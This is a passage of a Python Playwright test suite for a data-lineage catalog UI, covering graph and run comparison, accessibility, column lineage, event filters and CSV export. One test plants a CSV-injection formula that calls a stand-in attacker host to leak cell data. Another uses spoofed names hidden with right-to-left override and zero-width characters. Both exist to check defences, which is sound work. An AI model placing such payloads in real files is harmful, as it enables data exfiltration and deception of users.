    """Compared with 6 hours ago, `orders` gained its loader (first run 3.5 hours ago) and `refunds` its
    new column (5 hours ago); everything else was there already."""
    from playwright.sync_api import expect

    page = admin_page
    before = (datetime.now() - timedelta(hours=6)).strftime("%Y-%m-%dT%H:%M")
    page.goto(ui_server.url + "ol-catalog/ui/#/graph?node=dataset%3As3%3A%2F%2Fstories%3Aorders&up=1&down=2")
    expect(page.locator('[data-node-id="job:stories:load_orders"]')).to_be_visible()
    page.get_by_label("Compare with the graph at").fill(before)
    changes = page.get_by_test_id("graph-changes")
    expect(changes.get_by_test_id("changes-added")).to_have_text("Added (1)⚙ load_orders")
    expect(changes.get_by_test_id("changes-removed")).to_have_text("Removed (0)")
    expect(changes.get_by_test_id("changes-edges")).to_have_text("Edges: 1 added, 0 removed")
    expect(changes.get_by_test_id("changes-schema")).to_have_text("Schema changed (1)▤ refunds")
    expect(page.locator('[data-node-id="job:stories:load_orders"]')).to_have_attribute("data-change", "added")
    expect(page.locator('[data-node-id="dataset:s3://stories:orders"]')).not_to_have_attribute("data-change", "added")
    expect(page.locator(".olc-edge-added")).to_have_count(1)
    expect(page.get_by_test_id("legend-changes")).to_have_text("added 2 removed 0")  # a node and an edge
    assert "compare=" in page.url
    shot(page, "49-what-changed")
    changes.get_by_role("link", name="load_orders").click()
    expect(page.get_by_role("heading", name="load_orders")).to_be_visible()

    # 30 days ago `orders` was known only as what a check read (40 days ago): the rest of the graph is new.
    page.go_back()
    month_ago = (datetime.now() - timedelta(days=30)).strftime("%Y-%m-%dT%H:%M")
    page.get_by_label("Compare with the graph at").fill(month_ago)
    expect(page.get_by_test_id("changes-added")).to_contain_text("Added (4)")
    expect(page.get_by_test_id("changes-added").get_by_role("link", name="orders", exact=True)).to_have_count(0)
    expect(page.get_by_test_id("changes-edges")).to_have_text("Edges: 4 added, 0 removed")
    assert page.errors == []


def test_a_run_compares_with_the_run_before_it(ui_server, admin_page):
    """From a job's runs, one click shows what the newest run did differently: fewer rows written,
    a new input, a changed SQL query."""
    from playwright.sync_api import expect
    from test_run_comparison import load

    events = load("0193c100-0000-7000-8000-000000000001", "01", ["raw_orders", "customers"], 1000, "select 1")
    events += load("0193c100-0000-7000-8000-000000000002", "02", ["raw_orders", "refunds"], 800, "select 2", minutes=5)
    for payload in events:
        payload["job"]["namespace"] = "compare-ui"
        assert ui_server.send(payload).status_code == 201
    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/job?ns=compare-ui&name=load_orders&tab=runs")
    expect(page.get_by_test_id("compare-run")).to_have_count(1)  # the older run has none before it
    page.get_by_test_id("compare-run").click()
    expect(page.get_by_role("heading", name="Run compared with another")).to_be_visible()
    expect(page.get_by_test_id("compared-duration")).to_contain_text("2 min 0 s5 min 0 s (+150 %)")
    expect(page.get_by_test_id("compared-inputs-added")).to_have_text("only this run:refunds")
    expect(page.get_by_test_id("compared-inputs-removed")).to_have_text("only the other run:customers")
    rows = page.get_by_test_id("compared-measurements").get_by_role("row").nth(1)
    expect(rows).to_contain_text("orders")
    expect(rows).to_contain_text("1,000800\u221220 %")  # a minus sign
    facets = page.get_by_test_id("changed-facet")
    expect(facets).to_have_count(2)
    expect(facets.filter(has_text="sql")).to_contain_text("select 2")
    shot(page, "50-runs-compared")
    page.get_by_label("Compare with the run").select_option("0193c100-0000-7000-8000-000000000002")
    expect(page.get_by_text("The runs sent the same run and job facets.")).to_be_visible()
    assert page.errors == []


AXE = ROOT / "ui" / "node_modules" / "axe-core" / "axe.min.js"
# Every page of the catalog, with data: a dataset's and a job's tabs, a run, two runs compared,
# lists, the graph (and what changed in it), a DAG's lineage tab.
INVOICES = "ns=postgres%3A%2F%2Fpg.prod.internal%3A5432&name=shop.billing.invoices"
ACCESSIBLE_PAGES = [
    "#/",
    "#/search?q=orders",
    "#/search?q=email&kind=field",
    f"#/dataset?{INVOICES}",
    f"#/dataset?{INVOICES}&tab=schema",
    f"#/dataset?{INVOICES}&tab=lineage",
    f"#/dataset?{INVOICES}&tab=impact",
    f"#/dataset?{INVOICES}&tab=quality",
    f"#/dataset?{INVOICES}&tab=measurements",
    "#/job?ns=examples&name=clickstream",
    "#/job?ns=examples&name=nightly_sessions.sessionize&tab=runs",
    "#/run?id=019a0000-0000-7000-8000-000000000031",
    "#/graph?node=dataset%3As3%3A%2F%2Fstories%3Aorders",
    "#/graph?node=dataset%3As3%3A%2F%2Fstories%3Aorders&color=freshness&compare=2026-01-01T00%3A00",
    "#/graph?node=dataset%3Abigquery%3Aacme.marketing.customer_scores&columns=true",
    "#/compare?run=019a0000-0000-7000-8000-000000000031&with=019a0000-0000-7000-8000-000000000082",
    "#/dag/nightly_sessions",
    "#/events",
    "#/runs",
    "#/sources",
    "#/admin",
]


def _serious_violations(page) -> list[str]:
    """What axe-core finds of impact serious or critical on the page as it is now."""
    page.add_script_tag(path=str(AXE))
    found = page.evaluate(
        "async () => (await axe.run(document, {resultTypes: ['violations']})).violations"
        ".filter(v => ['serious', 'critical'].includes(v.impact))"
        ".map(v => `${v.id} (${v.impact}): ${v.help}: ` + v.nodes.slice(0, 3).map(n => n.target.join(' ')).join(', '))"
    )
    return list(found)


@pytest.mark.parametrize("mode", ["light", "dark"])
def test_every_page_passes_axe_without_serious_violations(ui_server, stories, admin_page, mode):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/")
    page.evaluate(f"localStorage.setItem('theme', '{mode}')")
    page.reload()  # the mode is read when the page loads; the pages below only change its hash
    expect(page.locator("html")).to_have_class(mode)
    found = {}
    for target in ACCESSIBLE_PAGES:
        page.goto(ui_server.url + "ol-catalog/ui/" + target)
        expect(page.get_by_text("Loading")).to_have_count(0, timeout=15_000)
        page.wait_for_timeout(300)
        problems = _serious_violations(page)
        if problems:
            found[target] = problems
    assert found == {}, json.dumps(found, indent=1, ensure_ascii=False)


def _score_report_event() -> dict:
    """A report made from the column-lineage example's output: one column passed through, one
    transformed, and the whole table filtered by a third (INDIRECT)."""
    producer = "https://example.com/tests"

    def way(type_: str, subtype: str, description: str | None = None) -> dict:
        return {"type": type_, "subtype": subtype, **({"description": description} if description else {})}

    scores = {"namespace": "bigquery", "name": "acme.marketing.customer_scores"}
    lineage = {
        "_producer": producer,
        "_schemaURL": "https://openlineage.io/spec/facets/1-2-0/ColumnLineageDatasetFacet.json",
        "fields": {
            "customer_id": {
                "inputFields": [{**scores, "field": "customer_id", "transformations": [way("DIRECT", "IDENTITY")]}]
            },
            "tier": {
                "inputFields": [
                    {
                        **scores,
                        "field": "segment",
                        "transformations": [way("DIRECT", "TRANSFORMATION", "UPPER(segment)")],
                    }
                ]
            },
        },
        "dataset": [
            {**scores, "field": "lifetime_value", "transformations": [way("INDIRECT", "FILTER", "lifetime_value > 0")]}
        ],
    }
    return {
        "eventType": "COMPLETE",
        "eventTime": datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
        "producer": producer,
        "run": {"runId": str(uuid.uuid4())},
        "job": {"namespace": "examples", "name": "marketing.score_report"},
        "inputs": [scores],
        "outputs": [
            {"namespace": "bigquery", "name": "acme.marketing.score_report", "facets": {"columnLineage": lineage}}
        ],
    }


def handle_centres(node) -> tuple[int, list[tuple[int, int]]]:
    """A drawn graph node's width and the centres of its handles, in the graph's units from its top left."""
    return node.evaluate(
        """n => {
          const node = n.closest('.react-flow__node');
          const box = node.getBoundingClientRect();
          const zoom = box.width / node.offsetWidth;
          return [node.offsetWidth, [...node.querySelectorAll('.react-flow__handle')].map(h => {
            const b = h.getBoundingClientRect();
            return [Math.round((b.left + b.width / 2 - box.left) / zoom), Math.round((b.top + b.height / 2 - box.top) / zoom)];
          })];
        }"""
    )


def test_column_lineage_is_dataset_cards_with_column_rows_traced_by_a_click(ui_server, admin_page):
    """Column mode draws a card per dataset and a row per column, edges join rows and are styled by
    transformation, each column says what became of it, and a click traces one column both ways."""
    from playwright.sync_api import expect

    assert ui_server.send(_score_report_event()).status_code == 201
    page = admin_page
    start = "dataset:bigquery:acme.marketing.customer_scores"  # every column of the table
    page.goto(ui_server.url + "ol-catalog/ui/#/graph?columns=true&node=" + requests.utils.quote(start, safe=""))
    cards = page.locator('[data-kind="card"]')
    expect(cards).to_have_count(4)  # customers and orders -> customer_scores -> score_report
    scores = page.locator('[data-card-id="dataset:bigquery:acme.marketing.customer_scores"]')
    expect(scores.locator(".olc-node-label")).to_contain_text("acme.marketing.customer_scores")
    names = scores.locator(".olc-row-name").all_inner_texts()
    assert names == ["(whole dataset)", "customer_id", "email_hash", "lifetime_value", "segment"], names

    def row(dataset: str, field: str):
        return page.locator(f'[data-row-id="datasetField:bigquery:{dataset}:{field}"]')

    # What became of each column on the way.
    expect(row("acme.marketing.customer_scores", "customer_id").locator(".olc-row-tag")).to_have_text("renamed")
    expect(row("acme.marketing.customer_scores", "lifetime_value").locator(".olc-row-tag")).to_have_text("transformed")
    email = row("acme.marketing.customer_scores", "email_hash")
    expect(email.locator(".olc-row-tag")).to_have_text(["masked", "transformed"])
    expect(row("acme.marketing.score_report", "customer_id").locator(".olc-row-tag")).to_have_text("passed through")
    expect(row("acme.marketing.score_report", "tier").locator(".olc-row-tag")).to_have_text("transformed")
    expect(row("acme.marketing.score_report", "").locator(".olc-row-tag")).to_have_text("indirect")
    assert "Renamed from acme.crm.customers.id" in row("acme.marketing.customer_scores", "customer_id").locator(
        "button"
    ).get_attribute("title")
    # Edges join rows and say how: solid DIRECT, dashed INDIRECT, orange when masked, the way in a tooltip.
    edges = page.locator(".react-flow__edge")
    expect(edges).to_have_count(9)
    indirect = page.locator('g[data-kind="INDIRECT"]')
    expect(indirect).to_have_count(3)  # segment from amount, the whole table from status and from lifetime_value
    assert indirect.first.locator("path").first.get_attribute("style").count("stroke-dasharray") == 1
    masked = page.locator('g[data-masked="true"]')
    expect(masked).to_have_count(1)
    assert "DIRECT · TRANSFORMATION · masked: SHA256 of the address" in masked.locator("title").text_content()
    assert masked.locator("path").first.evaluate("p => getComputedStyle(p).stroke") == "rgb(251, 146, 60)"
    # The handles sit where the page tells React Flow they are before it draws anything (so a big
    # graph need not draw every node to measure them): on the card's inner edges, mid-row.
    report = page.locator('[data-card-id="dataset:bigquery:acme.marketing.score_report"]')
    width, centres = handle_centres(report)
    middles = [57 + 22 * i for i in range(len(centres) // 2)]  # border 1 + header 44 + row's border 1 + 21 / 2
    assert centres == [point for y in middles for point in ([6, y], [width - 1, y])], centres
    shot(page, "52-column-cards")
    # Exported, the cards keep their rows and the edges their rows and their kind.
    with page.expect_download() as download:
        page.get_by_role("button", name="JSON").click()
    exported = json.loads(Path(download.value.path()).read_text())
    card = next(n for n in exported["nodes"] if n["id"] == "dataset:bigquery:acme.marketing.customer_scores")
    assert [c["field"] for c in card["columns"]] == ["", "customer_id", "email_hash", "lifetime_value", "segment"]
    hashed = next(e for e in exported["edges"] if e["destination"].endswith(":email_hash"))
    assert hashed["origin"] == "datasetField:bigquery:acme.crm.customers:email" and hashed["masked"] is True
    with page.expect_download() as download:
        page.get_by_role("button", name="SVG").click()
    svg = Path(download.value.path()).read_text()
    assert svg.count('stroke-dasharray="5 4"') == 3 and "passed through" in svg and "masked · transformed" in svg

    # A click on a column traces it up and down; every other column and edge is dimmed.
    row("acme.marketing.customer_scores", "segment").locator("button").click()
    lit = page.locator('.olc-row[data-lit="true"]')
    expect(lit).to_have_count(4)  # amount and country -> segment -> tier
    assert sorted(lit.evaluate_all("rows => rows.map(r => r.dataset.rowId.split(':').pop())")) == [
        "amount",
        "country",
        "segment",
        "tier",
    ]
    expect(row("acme.marketing.customer_scores", "customer_id")).to_have_attribute("data-dimmed", "true")
    expect(page.locator('g[data-lit="true"]')).to_have_count(3)
    expect(page.get_by_test_id("column-inputs")).to_contain_text("DIRECT · IDENTITY")
    expect(page.get_by_test_id("column-inputs")).to_contain_text("INDIRECT · CONDITION: CASE on SUM(amount)")
    shot(page, "53-column-traced")
    graph = page.get_by_test_id("lineage-graph").bounding_box()
    doc_shot(
        page, "column-lineage-traced", clip={"x": 0, "y": 0, "width": 1400, "height": graph["y"] + graph["height"] + 8}
    )
    # From the keyboard: Tab reaches a column, Enter traces it.
    row("acme.marketing.score_report", "customer_id").locator("button").focus()
    page.keyboard.press("Enter")
    expect(lit).to_have_count(3)  # id -> customer_id -> customer_id

    # The table graph opens a dataset to its columns; a column there opens its column lineage.
    page.goto(ui_server.url + "ol-catalog/ui/#/graph?node=dataset%3Abigquery%3Aacme.marketing.customer_scores")
    node = page.locator('[data-node-id="dataset:bigquery:acme.marketing.customer_scores"]')
    toggle = node.get_by_role("button", name="Open the 4 columns of acme.marketing.customer_scores")
    toggle.click()
    expect(node.locator(".olc-row-name")).to_have_text(["customer_id", "email_hash", "lifetime_value", "segment"])
    expect(node.get_by_role("button", name="Close the 4 columns of acme.marketing.customer_scores")).to_have_attribute(
        "aria-expanded", "true"
    )
    shot(page, "54-dataset-opened-to-columns")
    node.locator('[data-row-id$=":segment"] button').click()
    expect(page.locator('[data-card-id="dataset:bigquery:acme.marketing.score_report"]')).to_be_visible()
    assert "columns=true" in page.url
    expect(page.locator('.olc-row[data-start="true"]')).to_have_count(1)
    assert page.errors == []


def test_graph_nodes_work_from_the_keyboard(ui_server, stories, admin_page):
    """Each node is focusable, says what it is, and Enter, Shift+Enter, E and O do what clicks do."""
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/graph?node=dataset%3As3%3A%2F%2Fstories%3Aorders&up=1&down=1")
    loader = page.locator('.react-flow__node[data-id="job:stories:load_refunds"]')
    expect(loader).to_have_attribute("tabindex", "0")
    label = loader.get_attribute("aria-label")
    assert label.startswith("Job load_refunds in stories: Latest run FAILED, The latest run took 3 min."), label
    assert "E: expand" in label
    page.keyboard.press("Tab")  # the focus reaches the nodes from the page
    loader.focus()
    page.keyboard.press("Enter")
    expect(page.get_by_test_id("node-panel").get_by_role("heading")).to_have_text("load_refunds")
    expect(page.locator('[data-node-id="dataset:s3://stories:refunds"]')).to_have_count(0)
    page.keyboard.press("e")  # expand: what load_refunds writes joins the graph
    expect(page.locator('[data-node-id="dataset:s3://stories:refunds"]')).to_be_visible()
    page.locator('.react-flow__node[data-id="job:stories:load_orders"]').focus()
    page.keyboard.press("Shift+Enter")  # the path from the selected node
    expect(page.get_by_test_id("node-panel")).to_contain_text("Path of 3 nodes highlighted.")
    shot(page, "51-graph-keyboard")
    page.keyboard.press("o")
    expect(page.get_by_role("heading", name="load_orders")).to_be_visible()
    assert "#/job?" in page.url
    assert page.errors == []


def test_overview_numbers_open_the_lists_behind_them(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/")
    page.get_by_test_id("count-Events").get_by_role("link").click()
    expect(page.get_by_role("heading", name=re.compile(r"^Events \(\d+\)"))).to_be_visible()
    expect(page.get_by_test_id("event").first).to_be_visible()
    page.goto(ui_server.url + "ol-catalog/ui/")
    page.get_by_test_id("runs-COMPLETED").click()
    expect(page.get_by_role("heading", name=re.compile(r"^Runs completed \(\d+\)"))).to_be_visible()
    expect(page.get_by_role("cell").first).to_be_visible()


def test_events_list_names_job_run_and_producer_and_filters_in_the_url(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/events")
    failed = page.get_by_test_id("event").filter(has=page.get_by_role("link", name="finance.fx_rates_load"))
    expect(failed.first).to_be_visible()
    page.get_by_label("Namespace", exact=True).fill("examples")  # other tests of this module send events too
    page.get_by_label("Namespace", exact=True).press("Enter")
    page.get_by_label("Event type").select_option("FAIL")
    expect(page).to_have_url(re.compile(r"eventType=FAIL"))
    expect(page).to_have_url(re.compile(r"namespace=examples"))
    rows = page.get_by_test_id("event")
    expect(rows).to_have_count(2)  # the failed load and a failed test run (examples 05 and 08)
    row = rows.filter(has=page.get_by_role("link", name="finance.fx_rates_load"))
    for text in ("FAIL", "finance.fx_rates_load", "examples", "019a0000-0000-7000-8000-000000000041"):
        expect(row).to_contain_text(text)
    expect(row).to_contain_text("apache/airflow/tree/providers-openlineage/2.20.3")
    expect(rows.get_by_text("FAIL", exact=True)).to_have_count(2)
    row.get_by_role("button", name="Show event").click()
    expect(page.get_by_test_id("json")).to_contain_text('"eventType": "FAIL"')
    shot(page, "38-events-filtered")
    # A typed filter applies on Enter, together with the others; the URL holds them all.
    page.get_by_label("Event type").select_option("")
    page.get_by_label("Job name").fill("finance.fx_rates_load")
    page.get_by_label("Job name").press("Enter")
    expect(page).to_have_url(re.compile(r"job=finance.fx_rates_load"))
    expect(rows).to_have_count(2)
    assert set(rows.get_by_role("link", name="finance.fx_rates_load").all_inner_texts()) == {"finance.fx_rates_load"}
    page.get_by_label("Producer URI").fill("https://example.com/nobody")
    page.get_by_label("Producer URI").press("Enter")
    expect(page.get_by_text("No events.")).to_be_visible()
    page.get_by_role("button", name="Clear filters").click()
    expect(rows.first).to_be_visible()
    assert rows.count() > 20
    failed.first.get_by_role("link", name="finance.fx_rates_load").click()
    expect(page.get_by_test_id("title")).to_have_text("finance.fx_rates_load")
    assert page.errors == []


def test_impact_tab_is_a_table_of_names_with_links_and_a_csv(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    start = "#/dataset?ns=s3%3A%2F%2Facme-raw&name=clickstream%2F2026%2F03%2F01&tab=impact"
    page.goto(ui_server.url + "ol-catalog/ui/" + start)
    summary = page.get_by_test_id("impact-summary")
    expect(summary).to_have_text("2 downstream datasets depend on clickstream/2026/03/01 through 2 jobs.")
    rows = page.get_by_role("row").filter(has=page.get_by_test_id("impacted"))
    expect(rows).to_have_count(2)
    rollup = rows.filter(has=page.get_by_role("link", name="analytics.daily_sessions"))
    # the path: the start, each job with its newest run's state, each dataset in between, as links
    for job in ("nightly_sessions.sessionize", "nightly_sessions.daily_rollup"):
        expect(rollup.get_by_role("link", name=job)).to_be_visible()
    expect(rollup.get_by_role("link", name="sessions", exact=True)).to_be_visible()
    expect(rollup.get_by_text("COMPLETED")).to_have_count(2)
    expect(rollup).to_contain_text("2")  # its depth
    assert "dataset:" not in page.get_by_role("table").inner_text()  # names, never raw node ids
    shot(page, "39-impact-table")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV").click()
    csv_text = Path(download.value.path()).read_text()
    lines = csv_text.splitlines()
    assert lines[0] == '"depth","namespace","dataset","field","owners","jobs on the path","path"'
    assert len(lines) == 3 and lines[2].startswith('"2","hive://metastore.internal:9083","analytics.daily_sessions"')
    assert "nightly_sessions.sessionize (COMPLETED); nightly_sessions.daily_rollup (COMPLETED)" in csv_text
    rollup.get_by_role("link", name="nightly_sessions.daily_rollup").click()
    expect(page.get_by_test_id("title")).to_have_text("nightly_sessions.daily_rollup")
    assert page.errors == []


def test_impact_csv_keeps_a_formula_in_a_name_inert(ui_server, admin_page):
    """A name a spreadsheet would run as a formula (CSV injection) is written as text."""
    from playwright.sync_api import expect

    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    payload = json.loads((EXAMPLES / "02_table_lineage" / "02_build_invoices_complete.json").read_text())
    payload["job"] = {"namespace": "csv-attack", "name": "-copy", "facets": {}}
    payload["run"] = {"runId": str(uuid.uuid4()), "facets": {}}
    payload["inputs"] = [{"namespace": "s3://csv-attack", "name": "start", "facets": {}}]
    payload["outputs"] = [{"namespace": "s3://csv-attack", "name": formula, "facets": {}}]
    assert ui_server.send(payload).status_code == 201
    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/dataset?ns=s3%3A%2F%2Fcsv-attack&name=start&tab=impact")
    expect(page.get_by_role("link", name=formula)).to_have_count(2)  # its row and its path
    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV").click()
    row = Path(download.value.path()).read_text().splitlines()[1]
    assert row.startswith('"1","s3://csv-attack","\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",""'), row
    assert '"\'-copy (COMPLETED)"' in row, row  # a job name starting with - too


def test_impact_follows_paths_the_answer_left_out_and_folds_long_ones(ui_server, admin_page):
    """Paths of a long chain are left out of the answer (`pathsOmitted`; they grow with the square of
    its length): the tab follows each row's `previous` and `via` back to the start instead, shows the
    first and last steps of a long path with the rest on request, and writes each row's step before
    it to the CSV.
    The page's impact request is answered as the API answers it, with the paths taken out."""
    from playwright.sync_api import expect

    length = 6
    template = json.loads((EXAMPLES / "02_table_lineage" / "02_build_invoices_complete.json").read_text())
    for number in range(length):
        payload = {**template, "job": {"namespace": "impact-chain", "name": f"step{number}", "facets": {}}}
        payload["run"] = {"runId": str(uuid.uuid4()), "facets": {}}
        payload["inputs"] = [{"namespace": "s3://impact-chain", "name": f"t{number}", "facets": {}}]
        payload["outputs"] = [{"namespace": "s3://impact-chain", "name": f"t{number + 1}", "facets": {}}]
        assert ui_server.send(payload).status_code == 201
    answered = []

    def without_paths(route):
        response = route.fetch()
        report = response.json()
        for item in report["impacted"]:
            item["path"], item["jobs"] = [], []
        report["pathsOmitted"] = True
        answered.append(report)
        route.fulfill(response=response, json=report)

    page = admin_page
    page.route("**/ol-catalog/api/v1/impact?*", without_paths)
    page.goto(ui_server.url + "ol-catalog/ui/#/dataset?ns=s3%3A%2F%2Fimpact-chain&name=t0&tab=impact")
    expect(page.get_by_test_id("impact-summary")).to_have_text(
        f"{length} downstream datasets depend on t0 through {length} jobs."
    )
    assert answered and all(item["path"] == [] for item in answered[0]["impacted"])
    rows = page.get_by_role("row").filter(has=page.get_by_test_id("impacted"))
    deepest = rows.filter(has=page.get_by_role("link", name=f"t{length}", exact=True)).last
    # 13 steps: t0, then a job and a dataset a hop; 4 first, 4 last, 5 folded
    expect(deepest.get_by_role("button", name="5 more steps")).to_be_visible()
    for shown in ("step0", "t1", "step5"):
        expect(deepest.get_by_role("link", name=shown, exact=True)).to_be_visible()
    expect(deepest.get_by_role("link", name="step3", exact=True)).to_have_count(0)
    shot(page, "39b-impact-folded-path")
    deepest.get_by_role("button", name="5 more steps").click()
    for number in range(length):
        expect(deepest.get_by_role("link", name=f"step{number}", exact=True)).to_be_visible()
        expect(deepest.get_by_role("link", name=f"t{number + 1}", exact=True).last).to_be_visible()
    second = rows.filter(has=page.get_by_role("link", name="t2", exact=True)).first
    expect(second.get_by_role("button")).to_have_count(0)  # a short path is shown whole
    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV").click()
    # whole paths of a long chain would outgrow the file (and a browser's strings): each row says
    # the step before it instead
    lines = Path(download.value.path()).read_text().splitlines()
    assert lines[0] == '"depth","namespace","dataset","field","owners","reached from","through job"'
    assert lines[1].endswith('"t1","","","t0","step0 (COMPLETED)"') and lines[-1].endswith(
        f'"t{length}","","","t{length - 1}","step{length - 1} (COMPLETED)"'
    ), lines
    assert page.errors == []


def test_a_namespace_of_the_overview_opens_the_search_within_it(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/")
    # A namespace known only from its datasets is listed too, and says so.
    row = page.get_by_role("row").filter(has=page.get_by_role("link", name="s3://acme-lake", exact=True))
    expect(row).to_contain_text("datasets only")
    page.get_by_role("link", name="examples", exact=True).click()
    expect(page.get_by_text("In namespace examples")).to_be_visible()
    expect(page.get_by_test_id("search-result").first).to_be_visible()
    namespaces = page.get_by_test_id("search-result").all_inner_texts()
    assert namespaces and all("examples" in text for text in namespaces)
    expect(page).to_have_url(re.compile(r"ns=examples"))


def test_look_alike_names_show_their_hidden_characters(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    base = ui_server.url + "ol-catalog/ui/"
    page.goto(base + "#/search?type=dataset&ns=s3%3A%2F%2Flook-alikes")  # every dataset of that namespace
    results = page.get_by_test_id("search-result")
    expect(results).to_have_count(3)
    expect(results.filter(has_text="orders⟨U+200B⟩_daily")).to_have_count(1)
    expect(results.filter(has_text="invoices_⟨U+202E⟩txt.exe")).to_have_count(1)  # the override drawn, not obeyed
    text = page.locator("body").inner_text()
    assert "\u200b" not in text and "\u202e" not in text
    warnings = page.get_by_role("img", name=re.compile("^Look-alike name"))
    expect(warnings).to_have_count(3)
    titles = [warnings.nth(i).get_attribute("title") for i in range(3)]
    assert any("U+200B ZERO WIDTH SPACE" in t for t in titles) and any(
        "U+202E RIGHT-TO-LEFT OVERRIDE" in t for t in titles
    )
    assert any("not in Unicode NFC: é sent as e + U+0301" in t for t in titles)
    shot(page, "12-look-alike-search")

    # The link goes to the dataset by its exact name, zero-width space included.
    results.filter(has_text="orders⟨U+200B⟩_daily").get_by_role("link").click()
    expect(page.get_by_test_id("title")).to_have_text("orders⟨U+200B⟩_daily⚠")
    assert "orders%E2%80%8B_daily" in page.url
    expect(page.get_by_role("cell", name=re.compile("^amount⟨U\\+200B⟩"))).to_be_visible()
    shot(page, "13-look-alike-dataset")

    page.goto(base + "#/job?ns=look-alikes&name=" + requests.utils.quote(ZWJ_JOB, safe="") + "&tab=lineage")
    expect(page.get_by_test_id("title")).to_have_text("load⟨U+200D⟩_orders⚠")
    node = page.locator(f'[data-node-id="dataset:s3://look-alikes:{BIDI_NAME}"]')
    expect(node).to_contain_text("invoices_⟨U+202E⟩txt.exe")
    expect(
        page.locator(f'[data-node-id="dataset:s3://look-alikes:{NFD_NAME}"]').get_by_role(
            "img", name=re.compile("not in Unicode NFC")
        )
    ).to_have_count(1)
    # what screen readers read: edges and the tag editor name nodes as drawn, codes and all
    read_out = page.evaluate("[...document.querySelectorAll('[aria-label]')].map(e => e.getAttribute('aria-label'))")
    assert read_out and not [label for label in read_out if "\u202e" in label or "\u200d" in label], read_out
    assert any("invoices_⟨U+202E⟩txt.exe" in label for label in read_out)
    shot(page, "14-look-alike-graph")

    # A space at either end, and a Braille blank, draw as their codes too.
    page.goto(base + "#/search?type=job&ns=look-alikes")
    jobs = page.get_by_test_id("search-result")
    expect(jobs).to_have_count(4)
    for drawn in ("orders⟨U+0020⟩", "⟨U+0020⟩orders", "orders⟨U+2800⟩"):
        expect(jobs.filter(has_text=drawn)).to_have_count(1)
    expect(page.get_by_role("img", name=re.compile("^Look-alike name"))).to_have_count(4)
    assert page.errors == []


def test_pages_of_names_with_slashes_and_percent_signs(ui_server, admin_page):
    """`datasets/orders` in `s3://slash-lake` is not `orders` in `s3://slash-lake/datasets`."""
    from playwright.sync_api import expect

    payload = json.loads((EXAMPLES / "02_table_lineage" / "02_build_invoices_complete.json").read_text())
    payload["job"] = {"namespace": "slashes", "name": "dag/task 100%", "facets": {}}
    payload["run"] = {"runId": "manual/2026-01-01", "facets": {}}
    payload["inputs"] = []
    payload["outputs"] = [
        {
            "namespace": "s3://slash-lake",
            "name": "datasets/orders",
            "facets": {"schema": {"fields": [{"name": "right_column"}]}},
        },
        {
            "namespace": "s3://slash-lake/datasets",
            "name": "orders",
            "facets": {"schema": {"fields": [{"name": "wrong_column"}]}},
        },
    ]
    assert ui_server.send(payload).status_code == 201
    page = admin_page
    base = ui_server.url + "ol-catalog/ui/"
    page.goto(
        base
        + "#/dataset?ns="
        + requests.utils.quote("s3://slash-lake", safe="")
        + "&name="
        + requests.utils.quote("datasets/orders", safe="")
    )
    expect(page.get_by_test_id("title")).to_have_text("datasets/orders")
    expect(page.get_by_role("cell", name="right_column", exact=True)).to_be_visible()
    expect(page.get_by_text("wrong_column")).to_have_count(0)
    shot(page, "15-slash-dataset")
    page.get_by_role("link", name="dag/task 100%").first.click()
    expect(page.get_by_test_id("title")).to_have_text("dag/task 100%")
    page.get_by_role("tab", name="Runs").click()
    page.get_by_role("link", name="manual/2026-01-01").click()
    expect(page.get_by_test_id("title")).to_contain_text("manual/2026-01-01")
    expect(page.get_by_text("datasets/orders").first).to_be_visible()
    shot(page, "16-slash-run")
    assert page.errors == []


def test_explorer_opened_at_a_dag_shows_the_lineage_of_the_jobs_below_it(ui_server, admin_page):
    """A DAG's own job reads and writes nothing: the explorer starts from it and its tasks."""
    from playwright.sync_api import expect

    page = admin_page
    node = requests.utils.quote("job:examples:nightly_sessions", safe="")
    page.goto(ui_server.url + "ol-catalog/ui/#/graph?node=" + node)
    expect(page.locator('[data-node-id="job:examples:nightly_sessions"]')).to_be_visible()
    expect(page.locator('[data-node-id="job:examples:nightly_sessions.sessionize"]')).to_be_visible()
    expect(page.locator('[data-node-id="dataset:s3://acme-lake:sessions"]')).to_be_visible()
    page.get_by_label("Collapse child jobs").check()
    expect(page.locator('[data-node-id="job:examples:nightly_sessions.sessionize"]')).to_have_count(0)
    expect(page.locator('[data-node-id="dataset:s3://acme-lake:sessions"]')).to_be_visible()
    shot(page, "17-explorer-at-a-dag")
    assert page.errors == []


def test_stated_lineage_shows_on_job_and_dataset_pages_and_job_to_job_edges_in_the_graph(ui_server, admin_page):
    """The example set 09: a job fed by another job's run in memory, writing a column it aggregates."""
    from playwright.sync_api import expect

    page = admin_page
    base = ui_server.url + "ol-catalog/ui/"
    page.goto(base + "#/job?ns=examples&name=billing.publish")
    stated = page.get_by_test_id("stated-flows")
    expect(stated.get_by_role("link", name="billing.compute")).to_be_visible()
    expect(stated).to_contain_text("run 019c1a00-0000-7000-8000-000000000903")
    expect(stated).to_contain_text("DIRECT / AGGREGATION sum(amount)")
    shot(page, "19-stated-lineage-job")
    page.goto(base + "#/job?ns=examples&name=billing.publish&tab=lineage")
    expect(page.locator('[data-node-id="job:examples:billing.compute"]')).to_be_visible()
    edge = page.locator('[data-testid="rf__edge-job:examples:billing.compute->job:examples:billing.publish"]')
    expect(edge).to_have_count(1)
    page.goto(base + "#/dataset?ns=postgres%3A%2F%2Fops-db%3A5432&name=ops.mirror.active_customers")
    expect(page.get_by_test_id("stated-flows")).to_contain_text("the dataset's own facet")
    assert page.errors == []


